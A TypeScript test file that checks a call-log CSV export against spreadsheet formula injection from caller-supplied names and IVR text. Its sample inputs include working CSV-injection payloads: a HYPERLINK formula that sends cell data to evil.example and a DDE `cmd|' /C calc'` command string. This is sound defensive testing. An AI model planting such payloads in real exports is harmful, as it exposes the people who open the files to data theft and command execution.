/**
 * A caller chooses their display name and the IVR passes on what they typed: an export opened in
 * a spreadsheet must show those texts, never run them. Excel splits a CSV on `,` or, with German
 * settings, on `;` — so no piece of a line, split either way, may begin a formula.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportToString } from '../../src-main/core/store/call-log-export';
import { runCli } from '../support/cli';
import { makeWorkstation } from '../support/workstation';

const NASTY_NAMES = [
  'x;=1+1',
  '=HYPERLINK("http://evil.example/?"&A1;"Mehr")',
  'Meyer, @SUM(1)',
  'Tab\t=1',
  'a;"=2+2"',
  "-2+3+cmd|' /C calc'!A0",
  'ok; \r\n+1',
];
const FORMULA = /^[=+\-@\t\r]/;

/** Every cell a spreadsheet could see when it splits the text on `delimiter` and ignores quotes. */
function cellsSplitOn(csv: string, delimiter: ',' | ';'): string[] {
  return csv
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(delimiter))
    .map((cell) => cell.replace(/^[ "]+/, ''));
}

async function callsFromNastyCallers() {
  const { ws, clock, dataDir } = makeWorkstation();
  await ws.start();
  for (const name of NASTY_NAMES) {
    const id = ws.training.placeTrainingCall({ remoteNumber: '+49 40 111', remoteName: name, ivr: { concern: `${name}|=cmd` } });
    clock.advance(1000);
    await ws.phone.answer(id);
    clock.advance(1000);
    await ws.phone.hangup(id);
    ws.wrapUp.recordDisposition(id, { code: 'solved' });
  }
  return { ws, dataDir };
}

function expectSafeAndReadable(csv: string): void {
  for (const delimiter of [',', ';'] as const) {
    const dangerous = cellsSplitOn(csv, delimiter).filter((cell) => FORMULA.test(cell));
    expect(dangerous, `cells starting a formula when split on "${delimiter}"`).toEqual([]);
  }
  // Read as the CSV it is, every name is there, each formula start behind an apostrophe.
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  const names = rows.map((row) => row.remoteName ?? '');
  expect(names.map((name) => name.replace(/'(?=[=+\-@\t\r])/g, '')).sort()).toEqual([...NASTY_NAMES].sort());
  expect(names).toContain("x;'=1+1");
  expect(names).toContain("Meyer, '@SUM(1)");
  expect(rows.every((row) => row.remoteNumber === "'+49 40 111")).toBe(true);
  expect(rows.map((row) => row.durationSeconds)).toEqual(NASTY_NAMES.map(() => '1'));
}

describe('call-log CSV export against formula injection', () => {
  it('the command line export: no cell can start a formula under , or ; splitting, and the names stay readable', async () => {
    const { ws, dataDir } = await callsFromNastyCallers();
    const cli = await runCli(['calllog', 'export', '--format', 'csv', '--data-dir', dataDir]);
    expect(cli.code).toBe(0);
    expectSafeAndReadable(cli.stdout);
    await ws.stop();
  });

  it('the export from the window (the same writer as text): the same', async () => {
    const { ws } = await callsFromNastyCallers();
    const { content, rows } = exportToString(ws.callLog.iterateAll(), 'csv');
    expect(rows).toBe(NASTY_NAMES.length);
    expectSafeAndReadable(content);
    await ws.stop();
  });
});
